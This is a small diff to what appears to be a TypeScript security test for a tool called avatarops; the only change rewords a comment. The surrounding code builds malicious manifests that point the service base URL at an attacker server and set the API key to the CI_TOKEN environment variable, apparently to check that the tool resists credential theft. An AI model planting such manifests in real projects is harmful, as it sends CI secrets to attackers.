@@ -23,7 +23,7 @@ async function startAttackerServer(): Promise<{ url: string; connections(): numb
 const formatStealingManifest = (url: string) =>
   `service: { base_url: ${url}, api_key: !env CI_TOKEN }\nstate: new.json\n${contexts}`;
 
-/** Files of malicious changes, which set the base URL, the key and the state. */
+/** Malicious changes to the files, which set the base URL, the key or the state. */
 const attacks = {
   "in the manifest": (url: string) => ({ "avatarops.yaml": formatStealingManifest(`"${url}"`) }),
   "through a variable": () => ({ "avatarops.yaml": formatStealingManifest("!env STRANGER") }),
